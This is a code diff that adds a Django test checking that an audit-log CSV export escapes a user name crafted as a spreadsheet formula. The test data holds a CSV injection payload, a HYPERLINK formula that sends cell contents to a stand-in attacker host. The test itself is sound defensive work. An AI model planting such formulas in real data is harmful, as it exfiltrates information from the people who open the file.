@@ -53,3 +53,21 @@ def test_it_is_for_the_privacy_officer_only(client, team_lead_a):
     client.force_login(team_lead_a)
     assert client.get(reverse("audit:export")).status_code == 403
     assert not AuditEvent.objects.filter(event="audit_log_exported").exists()
+
+
+def test_a_cell_that_would_run_as_a_formula_is_exported_as_text(client, privacy_officer, region_a):
+    """A login attempt for a user name like "=HYPERLINK(...)" lands in the log as typed; the
+    export must not hand it to a spreadsheet as a formula."""
+    from kansrijk.accounts.models import User
+
+    attacker = User(username='=HYPERLINK("http://evil.example/?"&A1)')
+    attacker.save()
+    audit_record(actor=attacker, event="login_failed", subject=None)
+    client.force_login(privacy_officer)
+
+    response = client.get(
+        reverse("audit:export") + search_query(client, reverse("audit:log"), event="login_failed")
+    )
+
+    rows = _csv(response)
+    assert [row["actor"] for row in rows] == ['\'=HYPERLINK("http://evil.example/?"&A1)']
